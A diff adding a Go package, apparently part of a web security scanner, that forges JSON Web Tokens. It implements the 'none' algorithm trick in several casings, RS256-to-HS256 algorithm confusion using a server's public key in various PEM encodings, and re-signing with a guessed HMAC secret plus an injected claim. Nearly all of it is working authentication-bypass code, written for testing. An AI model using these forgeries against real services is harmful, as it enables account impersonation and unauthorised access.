@@ -0,0 +1,187 @@
+package tokens
+
+import (
+	"bytes"
+	"crypto/rsa"
+	"crypto/x509"
+	"encoding/base64"
+	"encoding/json"
+	"encoding/pem"
+	"errors"
+	"math/big"
+	"strings"
+
+	"github.com/golang-jwt/jwt/v5"
+)
+
+// JWTAttack is a technique used to get a forged token accepted
+type JWTAttack string
+
+const (
+	JWTAttackSignatureNotVerified JWTAttack = "signature_not_verified"
+	JWTAttackNoneAlgorithm        JWTAttack = "none_algorithm"
+	JWTAttackAlgorithmConfusion   JWTAttack = "algorithm_confusion"
+	JWTAttackWeakSecret           JWTAttack = "weak_secret"
+)
+
+// noneAlgorithmVariants are the casings of the none algorithm, as some libraries only block the lowercase one
+var noneAlgorithmVariants = []string{"none", "None", "NONE", "nOnE"}
+
+// GetNoneAlgorithmVariants returns the values of the alg header used to send unsigned tokens
+func GetNoneAlgorithmVariants() []string {
+	return noneAlgorithmVariants
+}
+
+// splitJWT returns the decoded header and the encoded payload of the token
+func splitJWT(tokenString string) (map[string]interface{}, string, error) {
+	parts := strings.Split(tokenString, ".")
+	if len(parts) != 3 {
+		return nil, "", errors.New("invalid JWT format")
+	}
+	headerJSON, err := base64.RawURLEncoding.DecodeString(strings.TrimRight(parts[0], "="))
+	if err != nil {
+		return nil, "", err
+	}
+	header := make(map[string]interface{})
+	decoder := json.NewDecoder(bytes.NewReader(headerJSON))
+	decoder.UseNumber()
+	if err := decoder.Decode(&header); err != nil {
+		return nil, "", err
+	}
+	return header, parts[1], nil
+}
+
+func encodeJWTSegment(value interface{}) (string, error) {
+	data, err := json.Marshal(value)
+	if err != nil {
+		return "", err
+	}
+	return base64.RawURLEncoding.EncodeToString(data), nil
+}
+
+// signJWT builds the token from the header and encoded payload, signing it with the HMAC method and key provided
+func signJWT(header map[string]interface{}, payload string, method *jwt.SigningMethodHMAC, key []byte) (string, error) {
+	header["alg"] = method.Alg()
+	encodedHeader, err := encodeJWTSegment(header)
+	if err != nil {
+		return "", err
+	}
+	signingString := encodedHeader + "." + payload
+	signature, err := method.Sign(signingString, key)
+	if err != nil {
+		return "", err
+	}
+	return signingString + "." + base64.RawURLEncoding.EncodeToString(signature), nil
+}
+
+// GetJWTAlgorithm returns the alg header of the token without verifying it
+func GetJWTAlgorithm(tokenString string) (string, error) {
+	header, _, err := splitJWT(tokenString)
+	if err != nil {
+		return "", err
+	}
+	alg, _ := header["alg"].(string)
+	return alg, nil
+}
+
+// ForgeJWTWithNoneAlgorithm returns the token with its alg header set to the provided none variant and without
+// signature, keeping the original payload and the rest of the header
+func ForgeJWTWithNoneAlgorithm(tokenString string, alg string) (string, error) {
+	header, payload, err := splitJWT(tokenString)
+	if err != nil {
+		return "", err
+	}
+	header["alg"] = alg
+	encodedHeader, err := encodeJWTSegment(header)
+	if err != nil {
+		return "", err
+	}
+	return encodedHeader + "." + payload + ".", nil
+}
+
+// ForgeJWTWithAlgorithmConfusion returns the token signed with HS256 using the public key of the server as the HMAC
+// secret, which is accepted by libraries trusting the alg header to pick the verification method
+func ForgeJWTWithAlgorithmConfusion(tokenString string, publicKey []byte) (string, error) {
+	header, payload, err := splitJWT(tokenString)
+	if err != nil {
+		return "", err
+	}
+	return signJWT(header, payload, jwt.SigningMethodHS256, publicKey)
+}
+
+// ForgeJWTWithSecret returns the token with an additional claim, signed with the provided secret using its original
+// HMAC algorithm, so the server accepting it shows that the secret can be used to forge tokens
+func ForgeJWTWithSecret(tokenString string, secret []byte, claim string, value string) (string, error) {
+	header, payload, err := splitJWT(tokenString)
+	if err != nil {
+		return "", err
+	}
+	alg, _ := header["alg"].(string)
+	method, ok := jwt.GetSigningMethod(alg).(*jwt.SigningMethodHMAC)
+	if !ok {
+		return "", errors.New("token is not signed with an HMAC algorithm")
+	}
+	payloadJSON, err := base64.RawURLEncoding.DecodeString(strings.TrimRight(payload, "="))
+	if err != nil {
+		return "", err
+	}
+	claims := make(map[string]interface{})
+	decoder := json.NewDecoder(bytes.NewReader(payloadJSON))
+	// Keep numeric claims such as exp unchanged
+	decoder.UseNumber()
+	if err := decoder.Decode(&claims); err != nil {
+		return "", err
+	}
+	claims[claim] = value
+	encodedPayload, err := encodeJWTSegment(claims)
+	if err != nil {
+		return "", err
+	}
+	return signJWT(header, encodedPayload, method, secret)
+}
+
+// JWK is an RSA JSON Web Key
+type JWK struct {
+	Kid string `json:"kid"`
+	Kty string `json:"kty"`
+	N   string `json:"n"`
+	E   string `json:"e"`
+}
+
+// ParseJWKSRSAKeys returns the RSA public keys of a JSON Web Key Set, skipping the keys of other types
+func ParseJWKSRSAKeys(data []byte) ([]*rsa.PublicKey, error) {
+	var jwks struct {
+		Keys []JWK `json:"keys"`
+	}
+	if err := json.Unmarshal(data, &jwks); err != nil {
+		return nil, err
+	}
+	var keys []*rsa.PublicKey
+	for _, key := range jwks.Keys {
+		if key.Kty != "RSA" {
+			continue
+		}
+		n, err := base64.RawURLEncoding.DecodeString(strings.TrimRight(key.N, "="))
+		if err != nil {
+			continue
+		}
+		e, err := base64.RawURLEncoding.DecodeString(strings.TrimRight(key.E, "="))
+		if err != nil || len(e) == 0 {
+			continue
+		}
+		keys = append(keys, &rsa.PublicKey{N: new(big.Int).SetBytes(n), E: int(new(big.Int).SetBytes(e).Int64())})
+	}
+	return keys, nil
+}
+
+// GetPublicKeyHMACSecrets returns the encodings of the public key a server could use as the HMAC secret, as the key is
+// usually loaded from a PEM file either in PKIX or PKCS#1 format, with or without the trailing newline
+func GetPublicKeyHMACSecrets(publicKey *rsa.PublicKey) [][]byte {
+	var secrets [][]byte
+	if pkix, err := x509.MarshalPKIXPublicKey(publicKey); err == nil {
+		encoded := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: pkix})
+		secrets = append(secrets, encoded, bytes.TrimRight(encoded, "\n"))
+	}
+	encoded := pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: x509.MarshalPKCS1PublicKey(publicKey)})
+	return append(secrets, encoded, bytes.TrimRight(encoded, "\n"))
+}